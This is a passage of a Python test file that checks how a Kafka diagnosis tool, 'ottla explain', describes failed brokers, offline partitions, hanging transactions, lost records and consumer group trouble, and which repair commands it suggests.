"""`ottla explain` as a pure function: facts and events in, words out."""

from __future__ import annotations

import shlex
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ottla.diagnosis.causes import end_transaction
from ottla.diagnosis.client_quotas import throttling
from ottla.diagnosis.explain_broker import DutiesNow, explain_broker
from ottla.diagnosis.explain_group import explain_group
from ottla.diagnosis.explain_partition import explain_partition
from ottla.diagnosis.explanation import Explanation
from ottla.diagnosis.happened import Happened
from ottla.diagnosis.lost_disks import NodeData
from ottla.diagnosis.now import (
    BrokerNow,
    ClusterNow,
    Commands,
    DirectoryNow,
    GroupNow,
    LagNow,
    MemberNow,
    PartitionNow,
    QuorumNow,
    QuotaNow,
    Reach,
    ReplicaNow,
    TransactionNow,
)
from ottla.diagnosis.remedies import UNCLEAN
from ottla.diagnosis.timeline import WORDS, in_words, story_of_partition, told
from ottla.diagnosis.topics import merged
from ottla.diagnosis.words import brokers, duration, listed
from ottla.losses.manifest import EpochRange, LossKind, Manifest, State
from ottla.losses.merge import merge

NOW = 1_800_000_000_000
LOCAL = Commands("", "127.0.0.1:9092", local=True)
REMOTE = Commands(" --bootstrap kafka:9092", "kafka:9092")
MISLED = BrokerNow(
    1,
    "10.0.0.1:9092",
    Reach.REFUSED,
    False,
    process=True,
    listens_at="127.0.0.1:9092",
    config="/d/server.properties",
)
WHOLE = PartitionNow("orders", 0, 1, 5, (1, 2, 3), (1, 2, 3), min_insync=2)


def cluster(**changes: BrokerNow) -> ClusterNow:
    """Three brokers that answer, except for those given as `_2=…`."""
    brokers = {id: BrokerNow(id, f"127.0.0.1:{9091 + id}") for id in (1, 2, 3)}
    brokers |= {int(name[1:]): broker for name, broker in changes.items()}
    return ClusterNow(NOW, brokers, QuorumNow(1, (1, 2, 3)), alone={}, quotas=())


def killed(id: int) -> BrokerNow:
    return BrokerNow(id, f"127.0.0.1:{9091 + id}", Reach.REFUSED, True, process=False)


def happened(ago_ms: int, kind: str, **fields: Any) -> Happened:
    cause, node = fields.pop("cause", None), fields.pop("node", 1)
    of_partition = kind in ("election", "offline", "isr_shrink", "isr_expand", "leader_start")
    of_partition = of_partition or kind in ("truncation", "reassignment")
    return Happened(NOW - ago_ms, kind, node, "orders-0" if of_partition else None, cause, fields)


def of_partition(
    now: PartitionNow, known: ClusterNow, *events: Happened, commands: Commands = LOCAL
) -> Explanation:
    return explain_partition(now, known, events, commands)


def commands_of(explanation: Explanation) -> list[str]:
    return [step.command for step in explanation.steps if step.command]


def test_a_whole_partition_is_healthy_and_there_is_nothing_to_do() -> None:
    explained = of_partition(WHOLE, cluster())
    assert explained.ok
    assert (
        "orders-0 is healthy: broker 1 leads it (epoch 5), all 3 replicas in sync."
        in explained.text()
    )
    assert explained.steps == () and "Nothing." in explained.text()


def test_a_killed_leader_is_named_with_the_time_of_its_death_and_the_command_that_starts_it() -> (
    None
):
    now = replace(WHOLE, leader=2, leader_epoch=6, isr=(2, 3))
    explained = of_partition(
        now,
        cluster(_1=killed(1)),
        happened(60_000, "isr_expand", isr=[1, 2, 3], brokers=[3]),
        happened(5_000, "fenced", broker=1, cause="its address refuses connections"),
        happened(5_000, "isr_shrink", isr=[2, 3], brokers=[1], cause="fenced"),
        happened(
            4_990, "election", leader=2, previous_leader=1, leader_epoch=6, isr=[2, 3], how="clean"
        ),
        happened(4_980, "leader_start", node=2, leader=2, leader_epoch=6, log_end=1234),
    )
    assert not explained.ok
    assert explained.cause == (
        "Broker 1 does not run and was fenced 5.0 s ago: its address refuses connections.",
        "Broker 1 led it before; broker 2 took over 5.0 s ago.",
    )
    assert explained.headline == (
        "orders-0 works, but broker 1 does not run: broker 2 leads (epoch 6),"
        " 2 of 3 replicas in sync (brokers 2 and 3)."
    )
    assert explained.earlier == "(1 earlier event left out: ottla events --since 1d)"
    assert commands_of(explained) == ["ottla nodes start 1"]
    lines = [line.text for line in explained.timeline]
    assert lines == [
        "broker 1 was fenced: its address refuses connections",
        "broker 1 left the ISR because it was fenced (in sync: brokers 2 and 3)",
        "broker 2 was elected leader after broker 1 (epoch 6); its log ended at offset 1234",
    ]
    assert "if one more replica fails" in explained.producers[0]


def test_a_remote_broker_has_no_command_that_starts_it() -> None:
    now = replace(WHOLE, isr=(1, 2))
    (step,) = of_partition(now, cluster(_3=killed(3)), commands=REMOTE).steps
    assert step.text.startswith("Start broker 3 again, on its machine.") and not step.command


def test_too_few_in_sync_says_who_is_refused_and_what_a_lower_minimum_would_risk() -> None:
    now = replace(WHOLE, isr=(1,))
    explained = of_partition(now, cluster(_2=killed(2), _3=killed(3)))
    assert (
        "takes no records with acks=all, because broker 2 does not run and broker 3 does not run"
        in (explained.headline)
    )
    assert "Broker 1 leads" in explained.headline
    assert "NOT_ENOUGH_REPLICAS" in explained.producers[0]
    assert commands_of(explained)[-2:] == [
        "ottla topics alter orders -c min.insync.replicas=1",
        "ottla topics alter orders --unset min.insync.replicas",
    ]
    own = replace(now, own_settings={"min.insync.replicas": "2"})
    back = commands_of(of_partition(own, cluster(_2=killed(2), _3=killed(3))))[-1]
    assert back == "ottla topics alter orders -c min.insync.replicas=2"


def test_a_slow_follower_is_told_with_its_lag_then_and_now() -> None:
    offsets = {id: ReplicaNow(0, end, end) for id, end in ((1, 900), (2, 900), (3, 400))}
    now = replace(WHOLE, isr=(1, 2), offsets=offsets)
    shrunk = happened(
        9_000,
        "isr_shrink",
        isr=[1, 2],
        brokers=[3],
        cause="slow",
        lag={"3": {"records": 700, "bytes": 9, "seconds": 31.0}},
    )
    explained = of_partition(now, cluster(), shrunk)
    (cause,) = explained.cause
    assert "with the leader, 700 records and 31.0 s behind at that moment" in cause
    assert "It is 500 records behind now" in cause
    assert "slows broker 3 down" in explained.steps[0].text


def test_a_follower_without_room_is_told_to_make_room() -> None:
    shrunk = happened(9_000, "isr_shrink", isr=[1, 2], brokers=[3], cause="full")
    explained = of_partition(replace(WHOLE, isr=(1, 2)), cluster(), shrunk)
    assert "because its disk was full" in explained.cause[0]
    assert "Make room on the disk of broker 3" in explained.steps[0].text


def test_an_offline_partition_waits_for_those_that_have_everything_and_names_the_price_of_the_others() -> (
    None
):
    now = replace(WHOLE, leader=-1, isr=(), elr=(2,), offsets={3: ReplicaNow(0, 40, 40)})
    explained = of_partition(
        now, cluster(_1=killed(1), _2=killed(2)), happened(8_000, "offline", previous_leader=2)
    )
    assert "orders-0 has no leader for 8.0 s: it is offline" in explained.headline
    assert "Only broker 2 has every committed record" in explained.cause[0]
    assert commands_of(explained) == [
        "ottla nodes start 2",
        "ottla topics elect orders --unclean -p 0",
    ]
    assert "lost for good" in explained.steps[-1].text


def test_a_partition_whose_only_copy_is_on_a_dead_broker_has_nothing_to_catch_up_from() -> None:
    alone = PartitionNow("alone", 0, -1, 5, (3,), (3,))
    start, second = of_partition(alone, cluster(_3=killed(3)), commands=REMOTE).steps
    assert start.text == (
        "Start broker 3 again, on its machine. It leads again as soon as it runs. This is the only copy of alone-0. If its disk is"
        " gone, so are these records: try to save the disk first. Only if it cannot be saved: ottla brokers replace 3 --bootstrap"
        " kafka:9092 --accept-loss begins anew without them."
    )
    assert "Afterwards, when alone-0 has a leader again: give it a second replica." in second.text
    assert second.command == (
        "ottla topics reassign alone -p 0 --replicas 3,1 --bootstrap kafka:9092"
    )
    gone, _ = of_partition(alone, lost(cluster(_3=killed(3)), 3)).steps
    assert "This is the only copy of alone-0. Try to save the disk first" in gone.text
    assert "copied from others" not in gone.text
    nobody_else = replace(WHOLE, leader=-1, isr=(), elr=(2,))
    start = of_partition(nobody_else, cluster(_2=killed(2)), commands=REMOTE).steps[0]
    assert "Broker 2 alone has all records of orders-0." in start.text
    two = replace(WHOLE, leader=-1, isr=(), elr=(2, 3))
    dead = cluster(_2=killed(2), _3=killed(3))
    for step in of_partition(two, dead, commands=REMOTE).steps[:2]:
        assert "It catches up and joins the ISR by itself." in step.text


def test_a_dead_broker_names_the_partitions_whose_only_copy_it_has() -> None:
    duties = DutiesNow(3, 0, ("orders-0",), ("alone-0",), ("alone-0",))
    (step,) = explain_broker(killed(3), duties, cluster(_3=killed(3)), [], REMOTE).steps
    assert "Broker 3 alone has all records of alone-0. If its disk is gone, so are" in step.text
    (step,) = explain_broker(killed(3), duties, lost(cluster(_3=killed(3)), 3), [], LOCAL).steps
    assert "Broker 3 alone has all records of alone-0. Try to save the disk first" in step.text
    (step,) = explain_broker(
        killed(3), replace(duties, only_copies=()), cluster(_3=killed(3)), [], REMOTE
    ).steps
    assert "only copy" not in step.text and "by itself" in step.text


def test_a_dead_broker_that_is_a_controller_says_what_the_quorum_can_stand() -> None:
    def told(known: ClusterNow) -> str:
        return " ".join(explain_broker(killed(3), DutiesNow(3, 0, (), ()), known, [], LOCAL).cause)

    both = "The same process is a controller, too: what brings it back repairs both."
    three = cluster(_3=killed(3))
    assert f"{both} 2 of 3 controllers answer: if another fails, nothing can be decided" in told(
        three
    )
    five = replace(
        cluster(_3=killed(3), _4=BrokerNow(4, "h:4"), _5=BrokerNow(5, "h:5")),
        quorum=QuorumNow(1, (1, 2, 3, 4, 5)),
    )
    assert "4 of 5 controllers answer: 1 more controller may fail." in told(five)
    elsewhere = replace(three, quorum=QuorumNow(101, (101, 102, 103)))
    assert "controller" not in told(elsewhere)


def test_without_a_majority_it_says_how_many_controllers_are_missing() -> None:
    known = replace(cluster(_2=killed(2), _3=killed(3)), quorum=QuorumNow(None, (1, 2, 3)))
    decided = happened(3_000, "election", leader=1, previous_leader=2)
    explained = of_partition(WHOLE, known, decided, happened(1_000, "quota_exceeded"))
    assert "1 of 3 controllers answers, 2 are needed for a majority" in explained.cause[0]
    assert "the last decision of a controller was at 07:59:57.000, 3.0 s ago" in explained.cause[2]
    assert "get no acknowledgement" in explained.producers[0]
    assert "acks=1 is no way out: such records are on broker 1 alone" in explained.producers[0]
    assert "Since when is not known." in of_partition(WHOLE, known).cause
    ended = {id: replace(killed(id), ended_ms=NOW - id * 1_000) for id in (2, 3)}
    here = replace(known, brokers={**known.brokers, **ended})
    assert "That is so for about 2.0 s." in of_partition(WHOLE, here, decided).cause
    led_elsewhere = of_partition(replace(WHOLE, leader=2), known)
    assert "no active controller to elect another" in led_elsewhere.headline
    assert led_elsewhere.consumers == ("cannot read.",)


def test_where_unclean_elections_are_allowed_the_only_replica_in_sync_is_started_first() -> None:
    down = cluster(_2=killed(2), _3=killed(3))
    known = replace(down, quorum=QuorumNow(None, (1, 2, 3)), alone={2: ("orders-0",)})
    alone = replace(WHOLE, leader=2, replicas=(2, 3), isr=(2,), unclean=True)
    explained = of_partition(alone, known)
    assert commands_of(explained) == [
        "ottla nodes start 2",
        f"ottla topics alter orders -c {UNCLEAN}=false",
        "ottla up --detach",
    ]
    assert explained.steps[0].text.startswith(
        "Broker 2 is the only replica in sync, and topic orders allows unclean elections: start broker 2 first."
    )
    assert explained.steps[2].text.startswith("Only when broker 2 leads orders-0 again: start")
    stopped = replace(known, stopped=True)
    assert commands_of(of_partition(alone, stopped))[0] == "ottla nodes start 2"
    for harmless in (
        replace(alone, unclean=False),
        replace(alone, isr=(2, 3)),
        replace(alone, replicas=(1, 2), isr=(1, 2)),
    ):
        assert commands_of(of_partition(harmless, known)) == ["ottla up --detach"]
    offline = replace(alone, leader=-1)
    assert "if broker 3 starts before broker 2, it may lead" in of_partition(offline, down).text()
    broker = explain_broker(killed(2), DutiesNow(1, 1, (), ()), known, [], LOCAL)
    assert any("start that broker first" in step.text for step in broker.steps)


def test_a_leader_that_clients_cannot_reach_although_it_is_alive_advertises_a_wrong_address() -> (
    None
):
    explained = of_partition(WHOLE, cluster(_1=MISLED))
    assert "at 10.0.0.1:9092, which refuses connections, probably because advertised.listeners" in (
        explained.headline
    )
    (step,) = explained.steps
    assert "It listens at 127.0.0.1:9092, which only clients on this machine reach" in step.text
    assert step.command == (
        "${EDITOR:-vi} /d/server.properties && ottla nodes stop 1 && ottla nodes start 1"
    ), "no restart without the edit"
    elsewhere = of_partition(WHOLE, cluster(_1=replace(MISLED, config="")), commands=REMOTE)
    assert not commands_of(elsewhere)


def test_before_the_only_replica_in_sync_restarts_there_is_a_caution() -> None:
    now = replace(WHOLE, isr=(1,), min_insync=1, unclean=False)
    known = replace(cluster(_1=MISLED), alone={1: ("orders-0",)})
    (step,) = of_partition(now, known).steps
    assert "Caution: it is the only replica in sync of orders-0" in step.text
    (unsure,) = of_partition(now, replace(known, alone=None)).steps
    assert "is not known" in unsure.text
    unclean = replace(now, unclean=True, own_settings={UNCLEAN: "true"})
    explained = of_partition(unclean, known)
    assert "First forbid unclean elections" in explained.steps[0].text
    assert commands_of(explained)[0] == f"ottla topics alter orders -c {UNCLEAN}=false"
    assert commands_of(explained)[2] == f"ottla topics alter orders -c {UNCLEAN}=true"


def test_a_failed_disk_is_the_cause_and_not_the_slowness_that_follows() -> None:
    full = BrokerNow(2, "127.0.0.1:9093", directories=(DirectoryNow("/data", True, 100, 0),))
    failure = disk_failure("[Errno 28] No space left on device")
    explained = of_partition(replace(WHOLE, isr=(1, 3)), cluster(_2=full), failure)
    assert "but broker 2 has a failed log directory" in explained.headline
    assert "it failed 3.0 s ago ([Errno 28] No space left on device)" in explained.cause[0]
    assert "Make room on the disk of /data" in explained.steps[0].text
    broker = explain_broker(
        full, DutiesNow(1, 0, ("orders-0",), ()), cluster(_2=full), [failure], LOCAL
    )
    assert "its log directory /data failed" in broker.headline
    assert "Its disk is full" in " ".join(broker.cause)
    assert broker.steps == explained.steps


def disk_failure(cause: str | None) -> Happened:
    return happened(
        3_000,
        "log_dir_failure",
        node=2,
        directory="/data",
        partitions=["orders-0"],
        cause=cause,
    )


@pytest.mark.parametrize(
    ("error", "advice"),
    [
        ("[Errno 28] No space left on device", "Make room"),
        ("[Errno 5] Input/output error", "replace it if it is defective"),
        ("[Errno 30] Read-only file system", "mount it writable"),
        ("[Errno 27] File too large", "ulimit -f"),
        ("[Errno 13] Permission denied", "the right to read and write /data"),
        ("something else", "Find out why /data cannot be used"),
        (None, "Find out why /data cannot be used"),
    ],
)
def test_what_to_do_about_a_disk_follows_its_error(error: str | None, advice: str) -> None:
    failed = BrokerNow(2, "h:1", directories=(DirectoryNow("/data", True, 100, 50),))
    known = replace(cluster(_2=failed), alone={2: ("other-0",)})
    repair, restart = of_partition(replace(WHOLE, isr=(1, 3)), known, disk_failure(error)).steps
    assert advice in repair.text and "nodes" not in repair.command
    assert ("Make room" in repair.text) == ("Errno 28" in (error or ""))
    assert restart.text.startswith("Only then restart broker 2")
    assert "only replica in sync of other-0" in restart.text, "the restart takes that down"
    assert restart.command == "ottla nodes stop 2 && ottla nodes start 2"


def test_a_transaction_that_nobody_knows_hangs_and_one_that_is_known_ends_by_itself() -> None:
    hanging = TransactionNow(100, 4711, NOW - 60_000)
    offsets = {1: ReplicaNow(0, 150, 150)}
    explained = of_partition(replace(WHOLE, transactions=(hanging,), offsets=offsets), cluster())
    assert "A transaction that no coordinator knows has been open in orders-0" in explained.headline
    assert "How many of the 50 records from there on are its own is not known" in explained.cause[0]
    assert "all answered and had loaded" in explained.cause[1]
    assert "cannot be undone" in explained.steps[1].text
    assert commands_of(explained) == [
        "ottla explain orders-0",
        "ottla transactions abort --topic orders --partition 0 --start-offset 100",
    ]
    known = replace(
        hanging, transactional_id="payments", started_ms=NOW - 60_000, timeout_ms=900_000
    )
    explained = of_partition(replace(WHOLE, transactions=(known,)), cluster())
    assert "the coordinator aborts it in 14 min" in " ".join(explained.cause)
    assert commands_of(explained) == ["ottla transactions abort payments"]


def test_no_abort_is_advised_while_a_coordinator_that_may_know_the_transaction_is_missing() -> None:
    perhaps = TransactionNow(100, 4711, NOW - 60_000, asked_all=False)
    explained = of_partition(replace(WHOLE, transactions=(perhaps,)), cluster())
    assert "they may know it and end it" in " ".join(explained.cause)
    assert commands_of(explained) == ["ottla explain orders-0"]


def test_a_last_known_leader_may_lack_the_end_of_its_log() -> None:
    alone = PartitionNow("orders", 0, 1, 2, (1,), (1,))
    explained = of_partition(
        alone,
        cluster(),
        happened(9_000, "offline", previous_leader=1),
        happened(8_000, "election", leader=1, previous_leader=-1, how="last_known_leader", isr=[1]),
    )
    assert "The end of the log of orders-0 may be missing" in explained.headline and explained.ok
    assert "After a crash of its process alone nothing is missing" in explained.cause[0]


def test_a_young_transaction_is_no_trouble() -> None:
    young = TransactionNow(100, 1, NOW - 50, "payments", "Ongoing", NOW - 100, 60_000)
    assert of_partition(replace(WHOLE, transactions=(young,)), cluster()).ok


def test_lost_records_are_counted_and_their_offsets_named() -> None:
    keeper = BrokerNow(1, "h:1", kept_ms=7 * 24 * 3_600_000)
    explained = of_partition(replace(WHOLE, min_insync=1), cluster(_1=keeper), *lost_records())
    assert "orders-0 lost 50 records by an unclean election 9.0 s ago" in explained.headline
    assert "which had been committed. Broker 1 kept a copy aside." in explained.headline
    assert "(offsets 100 to 149)" in " ".join(explained.cause)
    assert (
        "It keeps a copy beside its log, where no consumer sees it, at most until 2027-01-22 07:59:58, as b8cd."
        in explained.cause[1]
    )
    assert "Broker 1 leads now (epoch 5)." in explained.cause[0]
    look, copy, *_ = explained.steps
    assert look.text == "See them, and who keeps them."
    assert "before 2027-01-22 07:59:58: the copy is deleted then" in copy.text
    assert "--include-possible" not in copy.text
    assert "has committed an offset beyond 100 may skip new records" in explained.consumers[0]


def test_lost_records_are_copied_before_anything_else_is_repaired() -> None:
    now = replace(WHOLE, replicas=(1, 3), isr=(1,), leader=1, min_insync=1)
    known = cluster(_3=killed(3))
    explained = of_partition(now, known, *lost_records())
    commands = commands_of(explained)
    assert commands[0] == "ottla losses --topic orders" and "ottla recover" in commands[1]
    assert commands[2] == "ottla nodes start 3"
    assert commands[-1] == "ottla topics reassign orders -p 0 --replicas 1,3,2"
    assert "Not before broker 3 is back" in explained.steps[-1].text
    (consumers,) = explained.consumers
    assert (
        consumers.startswith("can read. A group that has committed")
        and consumers.count("can read") == 1
    )
    (producers,) = explained.producers
    assert producers.count("can write") == 1


def test_what_the_copies_say_is_more_than_what_one_replica_knew() -> None:
    election, cut = lost_records()
    unsure = replace(cut, fields={**cut.fields, "below_high_watermark": False})
    explained = of_partition(WHOLE, cluster(), election, unsure)
    assert "which may have been committed" in explained.headline
    known = replace(WHOLE, losses=tuple(merge([kept_aside()])))
    explained = of_partition(known, cluster(), election, unsure)
    assert "which had been committed. Broker 1 kept a copy aside." in explained.headline
    assert not explained.ok
    partly = replace(WHOLE, losses=tuple(merge([kept_aside()._replace(committed_end=120)])))
    explained = of_partition(partly, cluster(), election, unsure)
    assert "20 had been committed, the others may have been" in explained.headline


def test_recovered_records_need_no_recovery() -> None:
    recovered = merge([kept_aside()._replace(recovered_to="orders-recovered")])
    now = replace(WHOLE, losses=tuple(recovered), unclean=True)
    explained = of_partition(now, cluster(), *lost_records())
    assert "They were copied to orders-recovered." in explained.headline and explained.ok
    assert not any("recover --" in command for command in commands_of(explained))


def kept_aside() -> Manifest:
    return Manifest(
        "b8cd", LossKind.TRUNCATION, State.KEPT, "orders", "id", 0, 100, 150, 150,
        (EpochRange(4, 100, 150),), 50, 5_000, NOW - 2_000, "unclean election", 3, 5, 1,
    )  # fmt: skip


def lost_records() -> list[Happened]:
    return [
        happened(
            9_000, "election", leader=3, previous_leader=-1, leader_epoch=5, isr=[3], how="unclean"
        ),
        happened(
            2_000,
            "truncation",
            node=1,
            records=50,
            first_offset=100,
            end_offset=150,
            leader=3,
            below_high_watermark=True,
            kept="b8cd",
        ),
    ]


def test_min_insync_replicas_of_two_is_advised_only_where_three_replicas_are() -> None:
    three = replace(WHOLE, min_insync=1)
    assert commands_of(of_partition(three, cluster(), *lost_records()))[2:] == [
        f"ottla topics alter orders -c {UNCLEAN}=false",
        "ottla topics alter orders -c min.insync.replicas=2",
    ]
    two = replace(three, replicas=(1, 3), isr=(1, 3))
    explained = of_partition(two, cluster(), *lost_records())
    assert "With two replicas it would refuse acks=all" in explained.steps[-1].text
    assert commands_of(explained)[-1] == "ottla topics reassign orders -p 0 --replicas 1,3,2"
    safe = of_partition(replace(WHOLE, unclean=False), cluster(), *lost_records())
    assert not any("alter" in command for command in commands_of(safe)), "set already"


def test_a_move_is_held_up_by_the_broker_it_waits_for() -> None:
    now = replace(WHOLE, replicas=(1, 3, 2), isr=(1, 2), adding=(3,), removing=(2,), min_insync=1)
    dead = of_partition(now, cluster(_3=killed(3)))
    assert "and it waits for broker 3, which cannot copy now" in dead.headline
    assert commands_of(dead) == [
        "ottla nodes start 3",
        "ottla topics reassign orders -p 0 --cancel",
    ]
    offsets = {1: ReplicaNow(0, 100, 100), 3: ReplicaNow(0, 40, 40)}
    copying = of_partition(replace(now, offsets=offsets), cluster())
    assert "copying goes on" in copying.headline and copying.ok


def test_a_throttled_move_says_how_long_it_takes_and_warns_before_the_throttle_is_lifted() -> None:
    replicas = "follower.replication.throttled.replicas"
    now = replace(
        WHOLE,
        replicas=(1, 3, 2),
        isr=(1, 2),
        adding=(3,),
        removing=(2,),
        min_insync=1,
        offsets={1: ReplicaNow(0, 100, 100), 3: ReplicaNow(0, 40, 40)},
        throttled={"leader": (), "follower": (3,)},
        own_settings={replicas: "*"},
    )
    place = ("orders", 0)
    leader = BrokerNow(1, "h:1", sizes={place: 70_000}, throttled_rates={"leader": 5})
    slow = BrokerNow(3, "h:3", sizes={place: 10_000}, throttled_rates={"follower": 1000})
    explained = of_partition(now, cluster(_1=leader, _3=slow))
    assert "a throttle limits the copy to 1000 B/s, so it takes at least 60.0 s more" in (
        explained.headline
    )
    assert "lacks 60 records (about 58.6 KiB)" in explained.cause[0]
    assert "at broker 3 as follower" in explained.cause[0], "the leader's rate is not in use"
    wait, faster, lift, cancel = explained.steps
    assert wait.text.startswith("Wait, if the throttle is meant")
    assert "--entity-name 3 --add-config follower.replication.throttled.rate=10000" in (
        faster.command
    )
    assert "with 1000 sets it back" in faster.text
    assert "Caution" in lift.text and f"ottla topics alter orders -c '{replicas}=*'" in lift.text
    assert lift.command == f"ottla topics alter orders --unset {replicas}"
    assert cancel.command.endswith("--cancel")


def test_a_stopped_cluster_tells_its_last_state_and_how_to_start_it() -> None:
    stopped = ClusterNow(
        NOW, {1: killed(1), 2: killed(2), 3: killed(3)}, QuorumNow(None, (1, 2, 3)), stopped=True
    )
    explained = of_partition(
        replace(WHOLE, isr=(1, 2)), stopped, happened(99, "isr_shrink", isr=[1, 2], brokers=[3])
    )
    assert explained.headline == (
        "The cluster is stopped. When it stopped, broker 1 led it; 2 of 3 replicas in sync (brokers 1 and 2)."
    )
    assert commands_of(explained) == ["ottla up --detach"]
    assert explained.producers == ("cannot write.",)


GROUP = GroupNow(
    "billing", "Stable", "classic", 1, (MemberNow("m", "app", "10.0.0.9", 1),), (), 1000
)


def of_group(now: GroupNow, *events: Happened) -> Explanation:
    return explain_group(now, cluster(), events, LOCAL)


def test_a_group_that_reads_is_healthy() -> None:
    lag = LagNow("orders", 0, 90, 100, 10, 50.0, committed_before=80)
    explained = of_group(replace(GROUP, lags=(lag,)))
    assert explained.ok and "10 records in the last 1.0 s, 10 to go" in explained.consumers[0]


def test_a_rebalance_names_the_member_that_holds_it_up() -> None:
    late = {"member_id": "m", "client_id": "sleeper", "heard_ms": NOW - 2_000}
    hold_up = {
        "since_ms": NOW - 30_000,
        "waits_for": "JoinGroup",
        "late": [late],
        "rebalance_timeout_ms": 300_000,
    }
    explained = of_group(replace(GROUP, state="PreparingRebalance", hold_up=hold_up))
    assert "for 30.0 s: it is held up by client sleeper (10.0.0.9)" in explained.headline
    assert "That sends heartbeats, the last one 2.0 s ago" in " ".join(explained.cause)
    assert "removed 5 min after the rebalance began" in " ".join(explained.cause)
    assert "does not call poll()" in explained.steps[0].text and not commands_of(explained)
    silent = {**hold_up, "late": [{**late, "heard_ms": NOW - 31_000}]}
    explained = of_group(replace(GROUP, state="PreparingRebalance", hold_up=silent))
    assert "has sent nothing since the rebalance began" in " ".join(explained.cause)
    young = {**hold_up, "since_ms": NOW - 1_000}
    explained = of_group(replace(GROUP, state="PreparingRebalance", hold_up=young))
    assert "it waits for client sleeper (10.0.0.9), which has not sent its JoinGroup yet" in (
        explained.headline
    )
    assert "That is not unusual yet" in " ".join(explained.cause)
    assert commands_of(explained) == ["ottla explain --group billing"]


def test_a_group_before_a_hanging_transaction_is_told_to_abort_it() -> None:
    lag = LagNow(
        "orders", 0, 100, 200, 100, 60_000.0, 100, 200, TransactionNow(100, 7, NOW - 60_000)
    )
    explained = of_group(replace(GROUP, lags=(lag,)))
    assert "stands still in orders-0, at offset 100" in explained.headline
    assert commands_of(explained)[1].startswith("ottla transactions abort --topic orders")


def test_members_that_live_and_commit_nothing_are_the_application_s_fault() -> None:
    lag = LagNow("orders", 0, 5, 200, 195, 60_000.0, 5, 180)
    explained = of_group(replace(GROUP, lags=(lag,)))
    assert "it commits nothing: 195 records wait" in explained.headline
    assert "app (10.0.0.9)" in " ".join(explained.cause)


def test_a_group_without_members_says_why_the_last_one_left() -> None:
    lag = LagNow("orders", 0, 5, 200, 195, 60_000.0, 5, 180)
    gone = happened(
        4_000, "member_expired", group="billing", member="m", cause="no heartbeat for 45 s"
    )
    explained = of_group(replace(GROUP, state="Empty", members=(), lags=(lag,)), gone)
    assert "has no members, and 195 records wait for it" in explained.headline
    single = replace(lag, committed=199, lag=1)
    explained = of_group(replace(GROUP, state="Empty", members=(), lags=(single,)), gone)
    assert "has no members, and 1 record waits for it" in explained.headline
    assert "no heartbeat for 45 s" in explained.cause[0]


def test_many_rebalances_are_a_trouble_of_their_own() -> None:
    storm = [
        happened(ago, "rebalance", group="billing", epoch=1, cause="a member joined")
        for ago in range(60_000, 0, -10_000)
    ]
    assert "rebalanced 6 times in the last 60.0 s" in of_group(GROUP, *storm).headline


def test_a_quota_is_told_with_who_what_and_how_much() -> None:
    hits = [
        happened(
            ago,
            "quota_exceeded",
            node=1,
            user=None,
            client_id="importer",
            quota="producer_byte_rate",
            limit=1024.0,
            measured=4096.0,
            throttle_ms=900,
        )
        for ago in (3_000, 2_000, 1_000)
    ]

    def told_with(*quotas: QuotaNow) -> Explanation:
        known = replace(cluster(), quotas=quotas)
        return explain_broker(BrokerNow(1, "h:1"), DutiesNow(3, 1, (), ()), known, hits, LOCAL)

    own = QuotaNow({"client-id": "importer"}, {"producer_byte_rate": 1024.0})
    default = QuotaNow({"client-id": None}, {"producer_byte_rate": 1024.0})
    explained = told_with(default, own)
    assert explained.headline == (
        "Broker 1 throttled client importer for 900 ms, 1.0 s ago: it was above its quota"
        " producer_byte_rate=1024 (1.0 KiB/s)."
    )
    assert "4.0 KiB/s" in explained.cause[0] and "right now is not known" in explained.cause[0]
    assert explained.cause[1] == "The quota is set for client-id importer."
    (line,) = explained.timeline
    assert line.text.endswith("(3 times until 07:59:59.000)")
    leave, less, higher, none = explained.steps
    assert "leave it" in leave.text and "send less" in less.text
    assert "--entity-name importer --add-config producer_byte_rate=2048" in higher.command
    assert "--delete-config" in none.command
    shared = told_with(default)
    assert "--entity-type clients --entity-default" in shared.steps[2].command
    assert "for everyone who has no quota of their own" in shared.steps[2].text
    users = QuotaNow({"user": None}, {"producer_byte_rate": 512.0})
    assert "--entity-type users --entity-default" in told_with(own, users).steps[2].command
    assert "; it is 512 B/s now" in told_with(own, users).cause[1]
    assert told_with().cause[1] == "The quota is no longer set."
    assert not commands_of(told_with())


def test_a_fenced_broker_that_answers_is_told_apart_from_one_that_is_gone() -> None:
    alive = BrokerNow(2, "h:1", Reach.ANSWERS, True)
    duties = DutiesNow(3, 0, ("orders-0",), ())
    explained = explain_broker(alive, duties, cluster(_2=alive), [], LOCAL)
    assert explained.headline == "Broker 2 answers, but it is fenced."
    gone = explain_broker(killed(2), duties, cluster(_2=killed(2)), [], LOCAL)
    assert "does not run, and the controller has fenced it" in gone.headline
    silent = BrokerNow(2, "h:1", Reach.SILENT, True)
    paused = explain_broker(silent, duties, cluster(_2=silent), [], LOCAL)
    assert "kill -CONT" in paused.steps[0].text and "network" in paused.steps[0].text
    assert paused.steps[1].command == "ottla nodes kill 2 && ottla nodes start 2"


def test_a_move_to_a_full_disk_names_the_disk_and_not_the_throttle() -> None:
    now = replace(WHOLE, replicas=(1, 2, 3), isr=(1, 2), adding=(3,), throttled={"follower": (3,)})
    full = BrokerNow(
        3,
        "h:3",
        directories=(DirectoryNow("/d", False, 100, 1, refuses_records=True),),
        throttled_rates={"follower": 1000},
    )
    told = of_partition(now, cluster(_3=full))
    assert "it waits for broker 3, whose disk is full" in told.headline
    assert "The disk of /d at broker 3 is nearly full" in told.text()
    assert "a throttle limits" not in told.text()


def test_a_high_watermark_that_stands_is_told_with_the_replica_that_it_waits_for() -> None:
    ends = {1: ReplicaNow(0, 90, 40), 2: ReplicaNow(0, 88, 40), 3: ReplicaNow(0, 40, 40)}
    now = replace(WHOLE, isr=(1, 2), offsets=ends, stands=True)
    leader = BrokerNow(1, "h:1", lag_time_ms=30_000)
    told = of_partition(now, cluster(_1=leader))
    assert "orders-0 commits nothing now: the high watermark stands at 40" in told.headline
    assert "although all of the ISR have more (to 88)" in told.headline
    assert (
        "The leader waits for broker 3: outside of the ISR, caught up a moment ago" in told.text()
    )
    assert "Broker 3 has the log up to 40 and copies nothing" in told.text()
    assert "replica.lag.time.max.ms (30.0 s)" in told.text()
    assert told.consumers[0] == "can read up to offset 40, and nothing newer."
    moved = of_partition(replace(now, stands=False), cluster(_1=leader))
    assert "commits nothing" not in moved.text()


def test_a_high_watermark_that_stands_with_a_whole_isr_is_a_matter_of_fetches() -> None:
    ends = {id: ReplicaNow(0, 90, 40) for id in (1, 2, 3)}
    told = of_partition(replace(WHOLE, offsets=ends, stands=True), cluster())
